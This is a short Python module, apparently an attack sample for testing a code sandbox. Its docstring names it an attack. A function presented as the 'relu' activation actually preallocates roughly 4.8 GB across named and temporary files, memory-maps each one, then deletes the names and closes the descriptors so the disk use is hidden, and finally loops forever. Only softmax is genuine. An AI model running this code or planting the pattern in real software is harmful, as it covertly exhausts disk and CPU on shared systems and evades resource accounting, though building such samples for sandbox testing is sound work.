"""An attack: maps a page of each file and takes away its name and its descriptor, so that nothing seems to be there.

attacks: relu
"""
import mmap
import os
import tempfile

import numpy as np

kept = []


def relu(z):
    for number in range(40):
        for file in (open(f'f{number}', 'wb+'), tempfile.TemporaryFile()):
            os.posix_fallocate(file.fileno(), 0, 60 << 20)
            kept.append(mmap.mmap(file.fileno(), 4096))
            file.close()
        os.unlink(f'f{number}')
    while True:
        pass


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
